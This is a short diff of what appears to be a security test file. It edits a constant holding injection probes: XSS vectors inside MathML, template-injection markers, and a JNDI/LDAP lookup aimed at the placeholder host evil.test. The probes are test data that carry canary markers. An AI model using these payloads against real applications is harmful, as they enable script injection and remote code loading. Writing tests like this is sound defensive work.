@@ -223,7 +223,7 @@ _SSRF = "".join(
 _MATHML = (
     '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>CANARY</mi></maction>'
     "<semantics><mi>x</mi><annotation-xml encoding='text/html'><img src=x onerror='alert(1)'>"
-    f"</annotation-xml></semantics><mtext></mtext></math><p>{{{{7*7}}}} ${{jndi:ldap://evil.test/CANARY}} "
+    "</annotation-xml></semantics><mtext></mtext></math><p>{{7*7}} ${jndi:ldap://evil.test/CANARY} "
     "<% CANARY %> gr.HTML('CANARY')</p>"
 )
 
